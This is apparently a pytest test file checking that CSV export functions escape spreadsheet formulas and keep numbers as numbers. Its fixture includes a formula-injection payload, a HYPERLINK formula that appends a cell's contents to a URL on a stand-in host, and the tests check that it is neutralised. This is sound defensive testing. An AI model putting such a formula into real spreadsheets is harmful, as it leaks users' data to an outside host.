# SPDX-FileCopyrightText: The Tennis authors
# SPDX-License-Identifier: MIT
"""No cell of a table is a formula, whoever wrote it, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pyarrow as pa
import pytest

from tennis.rally.cells import FORMULA, csv_of, csv_of_columns

LIVE = '=HYPERLINK("http://example.org/?"&A1;"look")'


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("sign", FORMULA)
def test_no_row_holds_a_formula(sign):
    (row,) = cells(csv_of([[f"{sign}1+1", f" {sign}1+1", "a", -1.5, "-"]]))
    assert [cell[:1] for cell in row[:2]] == ["'", "'"]
    assert row[2:] == ["a", "-1.5", "-"]


def test_columns_hold_words_and_numbers():
    table = pa.table(
        {
            "=1+1": [LIVE, None],
            "of few words": pa.array([LIVE, "a;=2"]).dictionary_encode(),
            "raw": pa.array([b"@SUM(A1)", b"\xff"]),
            "whole": [-1, 2],
            "real": [-0.5, float("inf")],
            "exact": [Decimal("-1.5"), None],
        }
    )
    heading, first, second = cells(csv_of_columns(table))
    assert heading[0] == "'=1+1"
    assert first[:2] == [f"'{LIVE.replace(';', ',')}"] * 2
    assert first[2:] == ["'@SUM(A1)", "-1", "-0.5", "-1.5"]
    assert second[1] == "a,=2"
    with pytest.raises(pa.ArrowException):
        csv_of_columns(pa.table({"list": [[1], [2]]}))
